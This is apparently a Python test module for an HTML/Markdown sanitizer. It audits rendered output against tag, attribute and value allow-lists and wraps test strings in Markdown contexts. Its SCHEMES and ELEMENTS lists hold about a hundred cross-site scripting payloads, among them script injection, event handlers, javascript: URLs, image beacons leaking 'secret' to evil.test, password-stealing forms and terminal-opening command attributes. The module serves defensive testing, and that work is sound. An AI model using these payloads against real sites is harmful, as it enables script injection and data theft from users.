"""Checks HTML against an allow-list and returns everything that is not on it."""

from __future__ import annotations

import random
import re
from html.parser import HTMLParser

TAGS = {
    "a",
    "b",
    "bdi",
    "blockquote",
    "br",
    "code",
    "del",
    "details",
    "dfn",
    "div",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "s",
    "samp",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
    "var",
}
VOID = {"br", "hr", "img"}
ATTRIBUTES = {
    "a": {"href", "title", "target", "rel"},
    **{key: {"dir"} for key in ("p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "summary")},
    "ol": {"start", "dir"},
    "details": {"open"},
    "code": {"class"},
    "span": {"class", "title"},
    "div": {"class"},
    "sup": {"class"},
    "img": {"src", "alt", "width", "height", "loading", "referrerpolicy"},
    "th": {"style", "dir"},
    "td": {"style", "dir"},
}
VALUES = {
    "href": re.compile(
        r"(?:https?://(?:[\w.-]+|\[[0-9a-fA-F:.]+\])(?::\d{1,5})?(?:[/?#][^\s\\]*)?|mailto:[^\s@]+@[^\s@]+)",
        re.IGNORECASE | re.ASCII,
    ),
    "target": re.compile("_blank"),
    "rel": re.compile("noopener noreferrer nofollow"),
    "open": re.compile(""),
    "dir": re.compile("auto"),
    "start": re.compile(r"\d+"),
    "class": re.compile(r"gm-[a-z]+|mathjax_process tex2jax_process|language-[A-Za-z0-9_+#.-]{1,40}"),
    "src": re.compile(r"data:image/(?:png|gif|jpeg|webp);base64,[A-Za-z0-9+/]+={0,2}"),
    "alt": re.compile(r"(?s).*"),
    "width": re.compile(r"[1-9]\d{0,3}"),
    "height": re.compile(r"[1-9]\d{0,3}"),
    "loading": re.compile("lazy"),
    "referrerpolicy": re.compile("no-referrer"),
    "style": re.compile(r"text-align: ?(?:left|right|center);?"),
    "title": re.compile(r"(?s).*"),
}


# What the frame around an answer adds. Its style sheet is always ours.
FRAME_TAGS = TAGS | {"style", "details", "summary", "audio", "video", "small"}
FRAME_ATTRIBUTES = ATTRIBUTES | {
    "div": {"class", "role", "aria-label", "aria-busy", "style"},
    "details": {"class", "open"},
    "audio": {"controls", "src", "title"},
    "video": {"controls", "src", "title"},
    "style": set(),
    "span": {"class", "title", "role", "aria-label", "style"},
    "td": {"style", "dir", "colspan"},
}
FRAME_VALUES = VALUES | {
    "class": re.compile(
        r"gm-[a-z]+(?: gm-[a-z]+(?:-[a-z]+)?)?|mathjax_process tex2jax_process|(?:gemini-magic )?mathjax_ignore tex2jax_ignore|language-[A-Za-z0-9_+#.-]{1,40}"
    ),
    "role": re.compile("region|note|img"),
    "controls": re.compile(""),
    "src": re.compile(
        r"data:(?:image/(?:png|gif|jpeg|webp)|audio/(?:wav|mpeg|ogg|flac|aac|mp4|webm)|video/(?:mp4|webm));base64,[A-Za-z0-9+/]+={0,2}"
    ),
    "colspan": re.compile(r"[2-9]|\d\d"),
    "aria-label": re.compile("Answer|Rows|Sources|Google Search|Log probabilities"),
    "style": re.compile(
        rf"{VALUES['style'].pattern}|white-space:pre-wrap"
        r"|background-color:rgba\(230,120,0,0(?:\.\d{1,2})?\)(?:;border-bottom:2px (?:solid|dotted))?"
    ),
    "aria-busy": re.compile("true"),
}


# TeX that a typeset formula must not contain. (The renderer has a list of what it may contain.)
TEX = re.compile(
    r"\\(?:href|url|html|html[A-Z]\w*|data|style|class|cssId|includegraphics|require|input|def|[gex]def|let|futurelet|catcode"
    r"|(?:re)?newcommand|(?:re)?newenvironment|DeclareMathOperator|unicode|bbox|mmlToken|mathtip|texttip|toggle|label|e?q?ref"
    r"|Rule|rule|[hmv]?space|kern|raise|lower|[rl]lap|move\w+|verb)(?![A-Za-z])|<(?:script|img|svg|iframe|/)|[\u202a-\u202e]",
    re.IGNORECASE,
)


class _Auditor(HTMLParser):
    def __init__(self, tags=TAGS, attributes=ATTRIBUTES, values=VALUES):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.values = tags, attributes, values
        self.findings = []
        self.open = []
        self.text = []
        self.formula = None  # how many elements are open around the current formula, None outside formulas

    def handle_starttag(self, tag, attrs):
        if tag not in self.tags:
            self.findings.append(f"element {tag}")
        if self.formula is not None:
            self.findings.append(f"element {tag} in a formula")
        if tag not in VOID:
            self.open.append(tag)
        if ("class", "mathjax_process tex2jax_process") in attrs:
            self.formula = len(self.open)
            self.text.append("")
        for name, value in attrs:
            if name not in self.attributes.get(tag, ()):
                self.findings.append(f"attribute {tag}[{name}]")
            elif not self.values[name].fullmatch(value or ""):
                self.findings.append(f"value {name}={value!r}")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag not in VOID:
            self.handle_endtag(tag)

    def handle_endtag(self, tag):
        if self.formula == len(self.open):
            self.formula = None
            if not re.fullmatch(r"(?s)\\\(.+\\\)|\\\[.+\\\]", self.text[-1]) or TEX.search(self.text[-1]):
                self.findings.append(f"formula {self.text[-1]!r}")
        if not self.open or self.open.pop() != tag:
            self.findings.append(f"unbalanced {tag}")

    def handle_comment(self, data):
        self.findings.append("comment")

    def handle_decl(self, decl):
        self.findings.append("declaration")

    def unknown_decl(self, data):
        self.findings.append("declaration")

    def handle_pi(self, data):
        self.findings.append("processing instruction")

    def handle_data(self, data):
        self.text.append(data)


def audit(html):
    """Return what in ``html`` is not allowed; an empty list if everything is."""
    return _audited(_Auditor(), html)


def audit_output(html):
    """Do the same for an answer with the frame around it, without its style sheet."""
    return _audited(_Auditor(FRAME_TAGS, FRAME_ATTRIBUTES, FRAME_VALUES), html)


def audit_allowing(html, hosts):
    """Do the same as ``audit``, but also allow images from some hosts."""
    names = "|".join(re.escape(host).replace(r"\*", r"(?:[a-z0-9-]+\.)*[a-z0-9-]+") for host in hosts)
    src = (
        rf"{VALUES['src'].pattern}|https://(?i:{names})(?::443)?(?:[/?#][^\s\"<>\\]*)?"
        if hosts
        else VALUES["src"].pattern
    )
    return _audited(_Auditor(values=VALUES | {"src": re.compile(src)}), html)


def audit_framed(html):
    """Do the same as ``audit`` for a saved answer in its frame."""
    return _audited(_Auditor(FRAME_TAGS, FRAME_ATTRIBUTES, FRAME_VALUES), html)


def _audited(auditor, html):
    auditor.feed(html)
    auditor.close()
    return auditor.findings + [f"unclosed {tag}" for tag in auditor.open]


def text_of(html):
    """Return the text a reader sees."""
    auditor = _Auditor()
    auditor.feed(html)
    auditor.close()
    return "".join(auditor.text)


def contexts(payload, seed):
    """Yield a payload in each context of a Markdown document in which it may act."""
    line = payload.replace("\n", " ")
    yield "raw", payload
    yield "item", f"- {line}\n- [ ] {line}\n\n> {line}\n"
    yield "cell", f"| head | {line} |\n|---|---|\n| {line} | x |\n"
    yield (
        "destination",
        f"[t]({line}) ![i]({line}) [t](<{line}>) [r] ![q][r] <{line}>\n\n[r]: {line}\n\n[s]: <{line}>\n\n[s]",
    )
    yield (
        "title",
        f"[t](https://example.org \"{line}\") ![i](https://example.org/i '{line}')\n\n[r]: https://example.org ({line})\n\n[r] [{line}](https://example.org)",
    )
    yield "code", f"```{line}\n{payload}\n```\n\n`{line}` ``{line}``\n\n~~~ {line}\n{payload}\n\n"
    chance = random.Random(seed)
    whole = f"# Answer\n\n- item\n  {line}\n\n{payload}\n\n| a |\n|---|\n| {line} |\n"
    yield "cut", whole[: chance.randint(10, len(whole))]


SCHEMES = [
    "javascript:alert(1) JaVaScRiPt:alert(1) java\tscript:alert(1) &#106;avascript:alert(1) javascript&colon;alert(1) \\javascript:alert(1)",
    "java%73cript:alert(1) %6aavascript:alert(1) vbscript:msgbox(1) data:text/html,<script>alert(1)</script> data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg/onload=alert(1)> data:image/png;base64,iVBORw0KGgo= blob:https://example.org/1 file:///etc/passwd ftp://example.org/x",
    "about:blank chrome://settings view-source:https://example.org filesystem:https://example.org/t ws://example.org intent://x tel:123 myprotocol:x",
    "http:/logout http:logout https:example.org http:\\\\example.org http:///example.org //example.org/x /\\example.org \\\\example.org /logout",
    "../files/x?_xsrf=1 ?query #fragment . lab/tree https://user:pass@example.org https://user@example.org https://example.org@evil.test",
    "https://example.org%40evil.test https://example.org&#64;evil.test https://example.org\\@evil.test https://ex%61mple.org https://example.org:99999/",
    "https://[::1]/x https://[not-v6]/ https://example.org:80:80/ https://.. https:// mailto: mailto:a@b@c mailto:a@example.org?body=%0d%0aBcc:x",
    "https://аррӏе.example https://example.org/\"onmouseover=alert(1) https://example.org/'onclick='alert(1) https://example.org/<script>",
    "https://example.org/`onclick=1` https://999.999.999.999/ https://example.org/\u202egnp.exe jar:https://example.org!/x livescript:x mocha:x",
]

ELEMENTS = [
    "<script>alert(1)</script>",
    "<script src=https://evil.test/x.js></script>",
    "<SCRIPT\n>alert(1)</SCRIPT\n>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    '<IMG SRC="https://evil.test/?q=secret">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object>",
    "<embed src=https://evil.test/x.swf>",
    "<form action=https://evil.test><input name=password><button>Go</button></form>",
    '<button data-commandlinker-command="help:about" data-commandlinker-args="{}">click</button>',
    '<a href="#" data-commandlinker-command="terminal:create-new">click</a>',
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java&#10;script:alert(1)">x</a>',
    "<a href='https://example.org' onclick=alert(1)>x</a>",
    '<div style="position:fixed;inset:0;background:url(https://evil.test)">x</div>',
    "<div id=main name=main class=jp-Toolbar>x</div>",
    "<style>@import url(https://evil.test/x.css);</style>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<video src=https://evil.test/v><source onerror=alert(1)></video>",
    "<audio autoplay src=https://evil.test/a></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)" x="',
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "`<script>alert(1)</script>",
    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\x0cscript>alert(1)</script>",
    "<a\u2028href=javascript:alert(1)>x</a>",
    "<ⅰmg src=x onerror=alert(1)>",
    "<x onclick=alert(1)>click</x>",
    "<custom-element is=x-y onclick=alert(1)>x</custom-element>",
    "<p class=gm-task id=x>x</p>",
    "<u onclick=alert(1)>x</u> <kbd class=jp-Cell>x</kbd> <sub\tstyle=position:fixed>x</sub>",
    "<details ontoggle=alert(1) open><summary onclick=alert(1)>x</summary>x</details>",
    "<mark>*x</mark><script>alert(1)</script>*",
    "<span class='jp-Cell'>x</span>",
    "<code class='language-x onload'>x</code>",
    "<td style='color:red;text-align:left'>x</td>",
    "$\\href{javascript:alert(1)}{x}$ \\(\\text{<img src=x onerror=alert(1)>}\\)",
    "$$\\unicode{<script>alert(1)</script>}$$",
    "`a` <img src=x onerror=alert(1)> `b`",
    "`a | <img src=x onerror=alert(1)> | b`",
    "``a ` <img src=x onerror=alert(1)> ``",
    "\\`<img src=x onerror=alert(1)>\\`",
    "<!-- `--><img src=x onerror=alert(1)>`",
    '<a title="`"><img src=x onerror=alert(1)>`',
    "![`](x)<img src=x onerror=alert(1)>`",
    "[a](<https://example.org/`>)<img src=x onerror=alert(1)>`",
    "<https://example.org/`><img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "- ```\n<script>alert(1)</script>\n  ```",
    "> ```\n<script>alert(1)</script>",
    "1. ~~~\n <img src=x onerror=alert(1)>\n   ~~~",
    "-     <script>alert(1)</script>",
    "a\n    <img src=x onerror=alert(1)>",
    "\t- \t<img src=x onerror=alert(1)>",
    "```<img src=x onerror=alert(1)>\n```",
    '~~~"><img src=x onerror=alert(1)>\n~~~',
    "``` {.x onload=alert(1)}\n```",
    "[x]: javascript:alert(1)\n\n[x] ![x]",
    "[x]:\njavascript:alert(1)\n\n[x]",
    "> [x]: javascript:alert(1)\n\n[x] ![x][x]",
    "[x]\n(javascript:alert(1))",
    "[x](\njavascript:alert(1)\n)",
    "[x\\](javascript:alert(1))](javascript:alert(1))",
    "[![i](javascript:alert(1))](javascript:alert(1))",
    "[[x](https://example.org)](javascript:alert(1))",
    "![a![b](https://evil.test/b)](https://evil.test/a)",
    "![x]\\(https://evil.test/?q=secret)",
    "!\\[x](https://evil.test/?q=secret)",
    "\\![x](https://evil.test/?q=secret)",
    "\\\\![x](https://evil.test/?q=secret)",
    "![x][r]\n\n[r]: https://evil.test/?q=secret",
    "![r]\n\n[r]: https://evil.test/?q=secret",
    "&#33;[x](https://evil.test/?q=secret)",
    "!\n[x](https://evil.test/?q=secret)",
]


def payloads():
    """Return all attack strings of this module."""
    return ELEMENTS + [word for line in SCHEMES for word in line.split(" ")]
